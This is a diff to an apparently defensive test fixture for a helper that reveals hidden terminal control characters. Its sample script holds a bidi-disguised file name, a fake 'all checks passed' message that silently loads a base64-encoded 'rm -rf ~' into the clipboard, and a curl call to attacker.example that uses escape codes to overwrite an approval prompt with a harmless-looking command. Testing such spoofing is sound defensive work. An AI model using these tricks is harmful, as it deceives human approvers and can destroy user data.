@@ -14,11 +14,12 @@ from pathlib import Path
 from dal.core.visible import visible
 
 # (a) output that clears the screen and sets the clipboard; (b) a command whose quoted argument overwrites
-# the approval line with a harmless-looking one, then hides the rest; a bidi override in a key.
+# the approval line with a harmless-looking one, then hides the rest (-g: its `[` is no URL glob); a bidi
+# override in a key.
 SCRIPT = r'''operation("deploy-\u202eexe.txt")
 run("printf '\\033[2J\\033[1;1Hall checks passed\\033]52;c;cm0gLXJmIH4K\\007\\n'")
 print(run("curl -s https://attacker.example/up '\r\u001b[2K  blocker    effect 2 waits for approval: " +
-          "`curl -s https://api.example.com/health`  \u001b[8m'"))
+          "`curl -s https://api.example.com/health`  \u001b[8m' -g"))
 '''
 RAW = ("\x1b", "\r", "\x07", "\u202e", "\x08")
 
